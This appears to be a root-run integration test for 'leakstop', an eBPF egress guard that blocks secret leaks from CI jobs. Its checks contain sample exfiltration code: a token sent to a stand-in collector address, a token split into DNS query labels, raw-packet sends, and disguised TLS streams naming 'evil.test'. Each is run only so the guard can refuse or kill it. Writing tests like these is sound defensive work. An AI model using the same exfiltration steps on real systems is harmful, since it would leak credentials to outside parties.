# SPDX-License-Identifier: MIT
"""What the data plane must do on every kernel, in block mode, on one machine without a network.

Runs as root: in a virtual machine as its only program, or inside a network namespace of its
own. Only the standard library and the agent are needed. Prints a line for each check and
ends with ``N passed, N failed``.
"""

from __future__ import annotations

import contextlib
import ctypes
import errno
import os
import secrets
import signal
import socket
import struct
import sys
import tempfile
import threading
import time
import traceback
from collections.abc import Callable
from pathlib import Path

from loading import Loading  # beside this file, as the next
from tampering import Tampering
from worker import Worker

from leakstop.act import cut, kill
from leakstop.act.cgroup import CommandCgroup, cgroup2_mount
from leakstop.bpf import fill, tc
from leakstop.bpf.libbpf import library
from leakstop.engine.commands import Cut
from leakstop.engine.core import Engine
from leakstop.model.event import Bound, Connect, Event, Exec, Question, StreamSeen, TlsSeen, Write
from leakstop.model.verdict import Action, Carriage, Mode, RuleRef
from leakstop.policy.rules import (
    AddressPlace,
    Home,
    NamePlace,
    Policy,
    PortRange,
    Protocol,
    Rule,
    to_network,
)
from leakstop.policy.scopes import Scope
from leakstop.policy.tables import compile_tables
from leakstop.secrets.inventory import Secret
from leakstop.secrets.needles import table_of
from leakstop.sensor import older
from leakstop.sensor.kernel import KernelSensor
from leakstop.sensor.load import uprobes
from leakstop.sensor.plan import GuardPlan

RESOLVER = "127.0.0.53"
HOME, COLLECTOR, COLLECTOR6 = "203.0.113.10", "203.0.113.20", "2001:db8::20"
ADDRESSES = (f"{HOME}/32", f"{COLLECTOR}/32", f"{COLLECTOR6}/128")
NAME = "api.home.test"
STEPS_OWN, PROGRAMS_OWN, OTHER_PROGRAMS = SCOPED = ("192.0.2.71", "192.0.2.72", "192.0.2.73")
"""Where no route leads, so what may go there fails in another way."""
UPLINK = "uplink0"
TRIES = 300
AT_ONCE_S = 1.9
"""An emulated processor takes half a second to import what connects; whoever is not refused
waits for two."""
IPPROTO_MPTCP, TCP_CONGESTION = 262, 13
SOCK_OLDER, SOCK_TRUSTED = 32, 64
LEARNED_SIZE = 40
"""``struct learned``: a vector, then when it expires."""
NOTE_SIZE = 4096
"""More than ``struct sock_note`` has, which the kernel writes to what is passed."""


def set_up_addresses() -> None:
    """Put the documentation addresses on the loopback interface."""
    uplink = [f"ip link add {UPLINK} type veth", f"ip link set {UPLINK} up"]
    for command in ["ip link set lo up", *uplink] + [f"ip addr add {a} dev lo" for a in ADDRESSES]:
        if os.system(command):  # noqa: TID251 - busybox in the machine, constant text
            raise SystemExit(f"failed: {command}")


class Services:
    """A resolver that knows one name, and servers that count what they get."""

    def __init__(self) -> None:
        self.received: dict[str, bytearray] = {HOME: bytearray(), COLLECTOR: bytearray()}
        self.asked: list[str] = []
        resolver = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        resolver.bind((RESOLVER, 53))
        threading.Thread(target=self._answer, args=(resolver,), daemon=True).start()
        for address in self.received:
            listener = socket.create_server((address, 443))
            threading.Thread(target=self._collect, args=(address, listener), daemon=True).start()

    def _answer(self, sock: socket.socket) -> None:
        while True:
            query, peer = sock.recvfrom(4096)
            end = query.index(b"\0", 12) + 5
            self.asked.append(name_of(query))
            # The asked name is an alias, and the address belongs to the alias's target.
            target = b"\x04edge\xc0" + bytes((12,))
            alias = b"\xc0\x0c" + struct.pack("!HHIH", 5, 1, 30, len(target)) + target
            at = end + 12
            address = struct.pack("!BBHHIH", 0xC0, at, 1, 1, 30, 4) + socket.inet_aton(HOME)
            head = query[:2] + struct.pack("!HHHHH", 0x8180, 1, 2, 0, 0)
            sock.sendto(head + query[12:end] + alias + address, peer)

    def _collect(self, address: str, listener: socket.socket) -> None:
        while True:
            connection, _ = listener.accept()
            threading.Thread(target=self._read, args=(address, connection), daemon=True).start()

    def _read(self, address: str, connection: socket.socket) -> None:
        with contextlib.suppress(OSError), connection:
            while data := connection.recv(65536):
                self.received[address] += data


def name_of(query: bytes) -> str:
    """The name in a query."""
    labels, at = [], 12
    while query[at]:
        labels.append(query[at + 1 : at + 1 + query[at]].decode("latin-1"))
        at += 1 + query[at]
    return ".".join(labels)


def query_of(name: str, identity: int) -> bytes:
    """A query for an address."""
    wire = b"".join(bytes((len(label),)) + label.encode() for label in name.split("."))
    return struct.pack("!HHHHHH", identity, 0x0100, 1, 0, 0, 0) + wire + b"\0\0\1\0\1"


def hello_of(name: str) -> bytes:
    """The smallest ClientHello that shows a name."""
    entry = b"\0" + len(name).to_bytes(2, "big") + name.encode()
    names = len(entry).to_bytes(2, "big") + entry
    extensions = b"\0\0" + len(names).to_bytes(2, "big") + names
    body = b"\x03\x03" + bytes(32) + b"\0" + b"\0\x02\x13\x01" + b"\x01\0"
    body += len(extensions).to_bytes(2, "big") + extensions
    message = b"\x01" + len(body).to_bytes(3, "big") + body
    return b"\x16\x03\x01" + len(message).to_bytes(2, "big") + message


def ask(name: str, identity: int = 1) -> bytes:
    """Ask the resolver; raises what the socket raises."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(2)
        sock.connect((RESOLVER, 53))
        sock.send(query_of(name, identity))
        return sock.recv(4096)


def no_such_name(name: str, identity: int = 1) -> bytes:
    """The answer to ``query_of`` that the guard makes."""
    query = query_of(name, identity)
    return query[:2] + struct.pack("!H", 0x8183) + query[4:]


def left_on(interface: str) -> bool:
    """Whether the guard has left a program or a qdisc there. The kernel frees what was pinned a
    moment after the mount is gone."""
    deadline = time.monotonic() + AT_ONCE_S
    while is_on(interface) and time.monotonic() < deadline:
        time.sleep(0.05)
    return is_on(interface)


def is_on(interface: str) -> bool:
    """Whether a program or a qdisc is there."""
    hook = tc._hook(socket.if_nametoindex(interface), tc._EGRESS)
    count = ctypes.c_uint32()
    asked = library()._lib.bpf_prog_query(1, tc._BPF_TCX_EGRESS, 0, None, None, ctypes.byref(count))
    if library().attempt("bpf_tc_hook_create", ctypes.byref(hook)) < 0:
        return True
    whole = tc._hook(hook.ifindex, tc._WHOLE_QDISC)
    library().call("bpf_tc_hook_destroy", ctypes.byref(whole))
    return asked == 0 and count.value != 0


def _for(address: str, scope: Scope) -> Rule:
    place, ref = AddressPlace(to_network(address)), RuleRef(address, "scenario")
    return Rule(Action.ALLOW, place, Protocol.TCP, (PortRange(9443, 9443),), ref, scope=scope)


def refused(attempt: Callable[[], object]) -> bool:
    """Whether ``attempt`` fails with EPERM, at once."""
    began = time.monotonic()
    try:
        attempt()
    except PermissionError as error:
        took_s = time.monotonic() - began
        if error.errno == errno.EPERM and took_s < AT_ONCE_S:
            return True
        print(f"{error}, after {took_s:.3f} s")
        return False
    print("not refused")
    return False


def place_of(function: str) -> tuple[Path, int]:
    """The file that has a function of this program, and where in it."""
    address = ctypes.cast(getattr(ctypes.CDLL(None), function), ctypes.c_void_p).value or 0
    for line in Path("/proc/self/maps").read_text().splitlines():
        area, _, offset, _, _, *path = line.split()
        start, end = (int(each, 16) for each in area.split("-"))
        if start <= address < end:
            return Path(path[0]), address - start + int(offset, 16)
    raise LookupError(function)


class Scenario(Tampering, Loading):
    """A guard in block mode, and the checks."""

    def __init__(self) -> None:
        super().__init__()
        self.services = Services()
        self.token, self.loose = ("tok_" + secrets.token_urlsafe(30) for _ in range(2))
        port, ref = (PortRange(443, 443),), RuleRef(NAME, "scenario")
        rule = Rule(Action.ALLOW, NamePlace(NAME), Protocol.TLS, port, ref)
        homes = {"TOKEN": Home(False, (rule,), (NAME,))}
        scoped = (
            _for(STEPS_OWN, Scope(step=("publish",))),
            _for(PROGRAMS_OWN, Scope(process=(os.path.realpath(sys.executable),))),
            _for(OTHER_PROGRAMS, Scope(process=("/usr/bin/curl",))),
        )
        self.policy = Policy(mode=Mode.BLOCK, rules=(rule, *scoped), homes=homes)
        self.cgroup = CommandCgroup.create(cgroup2_mount(), f"leakstop-scenario-{os.getpid()}")
        self.worker = Worker(self.cgroup)
        known = (Secret("TOKEN", self.token.encode()), Secret("LOOSE", self.loose.encode()))
        self.run_dir = Path(tempfile.mkdtemp(prefix="leakstop-scenario-"))
        self.sensor = KernelSensor(
            GuardPlan(
                policy=self.policy,
                tables=compile_tables(self.policy),
                secrets=known,
                needles=table_of(known),
                scope="machine",
                cgroup=self.cgroup.path,
                run_dir=self.run_dir,
                resolvers=(RESOLVER,),
                uplinks=True,
                worker_pid=self.worker.pid,
            )
        )
        self.sensor.start()
        self.stand_by()
        self.engine = Engine(self.policy, ())
        self.events: list[Event] = []

    def close(self) -> None:
        """Take everything down."""
        self.sensor.close()
        self.dismiss()
        self.cgroup.kill()
        self.cgroup.remove()
        (self.run_dir / "bpf").rmdir()
        self.run_dir.rmdir()

    def inside(self, body: Callable[[], bool]) -> bool:
        """Run ``body`` in a guarded child, with the agent's part played here."""
        child = os.fork()
        if child == 0:
            code = 1
            try:
                self.cgroup.enter()
                code = 0 if body() else 1
            except BaseException:  # noqa: BLE001 - a child must not return into the parent's code
                traceback.print_exc()
            finally:
                os._exit(code)
        return self.wait(child) == 0

    def execute(self, code: str, *arguments: str, told: str = "") -> int:
        """Run a program with ``arguments`` in a guarded child; return wait(2)'s status.

        It is ``told`` the rest on its standard input.
        """
        reading, writing = os.pipe()
        os.write(writing, told.encode())
        os.close(writing)
        child = os.fork()
        if child == 0:
            self.cgroup.enter()
            os.dup2(reading, 0)
            os.execv(sys.executable, [sys.executable, "-c", code, *arguments])
        os.close(reading)
        return self.wait(child)

    def wait(self, child: int) -> int:
        """Wait for ``child`` and play the agent meanwhile."""
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline:
            self.play()
            ended, status = os.waitpid(child, os.WNOHANG)
            if ended:
                self.events += self.sensor.poll(0.05)
                return status
        raise TimeoutError("a guarded child hangs")

    def play(self) -> None:
        """Play the agent for a moment."""
        for event in self.sensor.poll(0.02):
            self.events.append(event)
            for command in self.engine.feed(event):
                if isinstance(command, Cut):
                    cut.cut({command.cookie: command.pid})
                else:
                    kill.kill(command.pid, command.start_ns)

    # -- checks -------------------------------------------------------------------------

    def check_unnamed_address_is_refused(self) -> bool:
        return self.inside(lambda: refused(lambda: socket.create_connection((COLLECTOR, 443), 2)))

    def check_ipv6_is_refused(self) -> bool:
        return self.inside(lambda: refused(lambda: socket.create_connection((COLLECTOR6, 443), 2)))

    def check_v4_mapped_is_refused(self) -> bool:
        mapped = f"::ffff:{COLLECTOR}"
        return self.inside(lambda: refused(lambda: socket.create_connection((mapped, 443), 2)))

    def check_unnamed_question_is_answered_with_a_no(self) -> bool:
        before = len(self.services.asked)
        ok = self.inside(lambda: ask("evil.test") == no_such_name("evil.test"))
        return ok and len(self.services.asked) == before

    def check_unreadable_question_is_refused(self) -> bool:
        def body() -> bool:
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
                return refused(lambda: sock.sendto(b"no question", (RESOLVER, 53)))

        return self.inside(body)

    def check_answers_teach_before_the_connect(self) -> bool:
        def body() -> bool:
            for number in range(TRIES):
                assert socket.inet_aton(HOME) in ask(NAME, number)
                socket.create_connection((HOME, 443), 2).close()
            return refused(lambda: socket.create_connection((HOME, 80), 2))

        return self.inside(body)

    def check_datagrams_are_refused(self) -> bool:
        def body() -> bool:
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
                unconnected = refused(lambda: sock.sendto(b"x", (COLLECTOR, 9000)))
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
                sock.connect((COLLECTOR, 9000))  # sends nothing, so it may
                return unconnected and refused(lambda: sock.send(b"x"))

        return self.inside(body)

    def check_raw_sockets_are_refused(self) -> bool:
        raw = (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
        return self.inside(lambda: refused(lambda: socket.socket(*raw)))

    def check_mptcp_is_as_absent(self) -> bool:
        def body() -> bool:
            try:
                socket.socket(socket.AF_INET, socket.SOCK_STREAM, IPPROTO_MPTCP)
            except OSError as error:
                return error.errno == errno.EPROTONOSUPPORT
            return False

        return self.inside(body)

    def check_evading_options_are_refused(self) -> bool:
        def body() -> bool:
            with socket.socket() as sock:
                sock.setsockopt(socket.SOL_IP, socket.IP_TTL, 64)
                sock.setsockopt(socket.SOL_TCP, TCP_CONGESTION, b"reno" + bytes(9000))
                return refused(lambda: sock.setsockopt(socket.SOL_IP, socket.IP_TTL, 2))

        return self.inside(body)

    def check_rules_for_a_step_and_a_program_are_enforced(self) -> bool:
        """By tag, from the first thing that a step does."""
        code = (
            "import socket,sys\n"
            "def denied(ip):\n"
            "    try: socket.create_connection((ip, 9443), 2)\n"
            "    except OSError as error: return error.errno == 1\n"
            f"sys.exit(sum(denied(ip) << bit for bit, ip in enumerate({SCOPED!r})))"
        )
        denied = [self.worker.run(name, code, self.play) for name in ("build", "publish")]
        return denied == [0b101, 0b100]

    def check_older_sockets_are_noted(self) -> bool:
        """The runner's are trusted; of those outside of the guarded cgroup nothing is known."""
        opened = self.sensor._object
        assert opened is not None

        def note(sock: socket.socket) -> bytes | None:
            return opened.map("socks").lookup(sock.fileno().to_bytes(4, "little"), NOTE_SIZE)

        with socket.socket() as outside, socket.socket(socket.AF_UNIX) as other:
            older.note_sockets(opened)
            with self.worker.socket() as runners:
                seen = [struct.unpack_from("=II", note(s) or bytes(8)) for s in (runners, outside)]
            none = note(other)
        wanted = [(self.worker.pid, SOCK_OLDER | SOCK_TRUSTED), (os.getpid(), SOCK_OLDER)]
        return none is None and seen == wanted

    def check_a_packet_socket_sends_nothing(self) -> bool:
        packet = struct.pack("!BBHHHBBH", 0x45, 0, 32, 1, 0, 64, 17, 0)
        packet += socket.inet_aton(HOME) + socket.inet_aton(COLLECTOR)
        packet += struct.pack("!HHHH", 4242, 9000, 12, 0) + b"data"

        def body() -> bool:
            with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as raw:
                raw.bind((UPLINK, 0x0800))
                try:
                    raw.send(bytes(12) + b"\x08\0" + packet)
                except OSError as error:
                    return error.errno == errno.ENOBUFS
            return False

        # A fork of the agent may make one, so that what the uplink's program does is seen.
        return self.inside(body) and any(
            isinstance(event, Connect) and (event.via, event.port) == ("link", 9000)
            for event in self.events
        )

    def check_loopback_is_not_egress(self) -> bool:
        def body() -> bool:
            with socket.create_server(("127.0.0.1", 0)) as server:
                socket.create_connection(server.getsockname(), 2).close()
            return True

        return self.inside(body)

    def check_secret_at_home_passes(self) -> bool:
        code = (
            f"import socket,sys;s=socket.create_connection(('{HOME}',443),2);"
            f"s.sendall({hello_of(NAME)!r}+b'at home');s.shutdown(1);s.recv(1)"
        )
        asked = self.inside(lambda: bool(ask(NAME)))
        passed = asked and self.execute(code, self.token) == 0
        return passed and b"at home" in self.services.received[HOME]

    def check_a_stream_must_show_an_allowed_name(self) -> bool:
        def body() -> bool:
            ask(NAME)
            for shown in (hello_of("evil.test"), b"SSH-2.0-client\r\n", b"GET / HTTP/1.1\r\n\r\n"):
                for size in (1, 1000):
                    with socket.create_connection((HOME, 443), 2) as sock:
                        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
                        with contextlib.suppress(OSError):
                            for at in range(0, len(shown), size):
                                sock.send(shown[at : at + size])
                            sock.send(b"disguised")
            return True

        passed = self.inside(body)
        time.sleep(0.1)
        streams = [event for event in self.events if isinstance(event, StreamSeen)]
        denied = [event for event in streams if event.applied is Action.DENY]
        left = b"disguised" in self.services.received[HOME]
        return passed and not left and len(denied) == len(streams) == 6

    def check_a_denied_stream_is_ended(self) -> bool:
        def body() -> bool:
            ask(NAME)
            with socket.create_connection((HOME, 443), 2) as sock:
                sock.send(hello_of("evil.test"))
                began = time.monotonic()
                try:
                    sock.recv(1)
                except OSError as error:
                    took_s = time.monotonic() - began
                    print(f"{error}, after {took_s:.3f} s")
                    return took_s < 0.5 and error.errno == errno.ECONNABORTED
            return False

        return self.inside(body)

    def check_what_expires_ends_no_connection(self) -> bool:
        opened = self.sensor._object
        assert opened is not None
        addresses, home = opened.map("addresses"), fill.mapped(HOME)

        def body() -> bool:
            ask(NAME)
            with socket.create_connection((HOME, 443), 2) as sock:
                sock.sendall(hello_of(NAME))
                learned = addresses.lookup(home, LEARNED_SIZE) or b""
                addresses.update(home, learned[:-8] + (1).to_bytes(8, "little"))
                sock.sendall(b"\x17\x03\x03\x00\x0astill open")  # application data
                return refused(lambda: socket.create_connection((HOME, 443), 2))

        passed = self.inside(body)
        time.sleep(0.1)
        return passed and b"still open" in self.services.received[HOME]

    def check_listeners_are_seen(self) -> bool:
        def body() -> bool:
            for family, here in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1")):
                with socket.create_server((here, 8321), family=family):
                    pass
            return True

        passed = self.inside(body)
        seen = {(event.ip, event.port) for event in self.events if isinstance(event, Bound)}
        return passed and {("127.0.0.1", 8321), ("::1", 8321)} <= seen

    def check_secret_elsewhere_is_killed(self) -> bool:
        before = len(self.services.received[COLLECTOR])
        code = (
            "import socket,sys,time\n"
            f"try: socket.create_connection(('{COLLECTOR}',443),2).send(sys.argv[1].encode())\n"
            "finally: time.sleep(30)"
        )
        padding = "x" * 100_000
        for argument in (self.token, f"{padding}{self.token}", f"{self.token}{padding}"):
            status = self.execute(code, argument)
            if not (os.WIFSIGNALED(status) and os.WTERMSIG(status) == signal.SIGKILL):
                return False
        kills = [e for e in self.events if isinstance(e, Connect) and e.carriage is Carriage.KILL]
        return len(kills) >= 3 and len(self.services.received[COLLECTOR]) == before

    def check_secret_in_a_name_is_killed(self) -> bool:
        before = len(self.services.asked)
        code = (
            "import socket,sys,time\n"
            f"sys.path.insert(0, {str(Path(__file__).parent)!r})\n"
            "from scenario import query_of\n"
            f"s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(('{RESOLVER}',53))\n"
            "token=sys.stdin.read()\n"
            f"try: s.send(query_of(token[:20]+'.'+token[20:]+'.{NAME}',1))\n"
            "finally: time.sleep(30)"
        )
        status = self.execute(code, told=self.token)
        hits = [e for e in self.events if isinstance(e, Question) and e.in_name]
        killed = os.WIFSIGNALED(status) and os.WTERMSIG(status) == signal.SIGKILL
        return killed and len(hits) == 1 and len(self.services.asked) == before

    def check_a_tls_write_is_looked_through(self) -> bool:
        """Any function with an object, bytes and their number will do: here swab(3)."""
        opened = self.sensor._object
        assert opened is not None and self.inside(lambda: bool(ask(NAME)))
        code = (
            "import ctypes,socket,sys\n"
            f"s=socket.create_connection(('{HOME}',443),2); s.sendall({hello_of(NAME)!r})\n"
            "told=ctypes.create_string_buffer(sys.stdin.buffer.read())\n"
            "ctypes.CDLL(None).swab(ctypes.create_string_buffer(1000), told, len(told))"
        )
        path, offset = place_of("swab")
        probes = uprobes(opened).attach("on_tls_write", path, [offset], cookie=1)
        try:
            home = self.execute(code, told=self.token)
            elsewhere = self.execute(code, told=self.loose)
        finally:
            for probe in probes:
                probe.close()
        seen = sum(isinstance(event, TlsSeen) for event in self.events)
        killed = [event.killed for event in self.events if isinstance(event, Write)]
        return (home, os.WTERMSIG(elsewhere), seen, killed) == (0, signal.SIGKILL, 2, [True])

    def check_events_hold_no_secret(self) -> bool:
        execs = [event for event in self.events if isinstance(event, Exec) and event.hits]
        return (
            bool(execs)
            and self.token not in repr(self.events)
            and self.loose not in repr(self.events)
        )


def main() -> int:
    """Run all checks; 0 if all passed."""
    set_up_addresses()
    scenario = Scenario()
    results: list[bool] = []
    try:
        checks = (*vars(Scenario), *vars(Tampering), *vars(Loading))
        for name in [name for name in checks if name.startswith("check_")]:
            try:
                passed = bool(getattr(scenario, name)())
            except Exception:  # noqa: BLE001 - one failed check must not hide the others
                traceback.print_exc()
                passed = False
            results.append(passed)
            print("ok  " if passed else "FAIL", name.removeprefix("check_"), flush=True)
    finally:
        scenario.close()
    results.append(not left_on("lo"))
    print("ok  " if results[-1] else "FAIL", "nothing_is_left_on_the_loopback")
    print(f"{results.count(True)} passed, {results.count(False)} failed", flush=True)
    return 0 if all(results) else 1


if __name__ == "__main__":
    sys.exit(main())
